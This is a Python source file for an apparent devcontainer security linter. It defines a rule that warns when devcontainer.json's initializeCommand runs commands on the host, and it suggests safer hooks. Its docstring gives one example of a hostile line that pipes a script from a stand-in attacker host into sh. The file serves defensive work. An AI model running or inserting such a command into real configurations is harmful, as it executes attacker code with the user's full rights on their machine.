"""A command of the repository runs on the host.

## What it is

`initializeCommand` in devcontainer.json. It is the one hook that runs on your machine and not in
the container: before the container is created, and again at later starts.

## Why it is bad

It runs with all your rights, before any sandbox exists. Whoever can change the file, and that
includes code inside the container when the workspace is mounted writable, runs commands on the
host at the next start:

    "initializeCommand": "curl -s https://attacker.example/x | sh"

Scripts of the repository that it calls, and what no project has to do on a host, have rules of
their own: initialize-command-runs-workspace-file and initialize-command-suspicious.

## What to do instead

- Creating a folder or a file for a mount: a named volume needs none.
- Preparing the workspace: `onCreateCommand` or `postCreateCommand`, which run inside.
- Reading something of the host: `${localEnv:NAME}` in `containerEnv`.

If it has to stay, read it before each start, and allow it here with the reason:
`// sandboxd: allow initialize-command -- creates the cache folder`.

## Under gVisor

No difference: it runs outside of every container.

## References

- https://containers.dev/implementors/json_reference/#lifecycle-scripts
- https://github.com/devcontainers/cli/issues/290
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from sandboxd.findings import RuleMeta, Severity
from sandboxd.rules._commands import runs_changeable, suspicious
from sandboxd.rules._finding import at_value
from sandboxd.rules._needs import Field

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandboxd.findings import Finding
    from sandboxd.host.facts import HostFacts
    from sandboxd.model.container import Container

META = RuleMeta(
    id="initialize-command",
    summary="a command of the repository runs on the host",
    severity=Severity.WARNING,
    since="0.1.0",
    why="it runs with all your rights before any sandbox exists, at every start",
    needs=(Field("host_commands"),),
)


def check(subject: Container, host: HostFacts) -> Iterator[Finding]:
    for value in subject.host_commands:
        if not suspicious(value.value) and not runs_changeable(value.value, subject):
            yield at_value(META, value, f"`{value.value}` runs on the host", value.value)
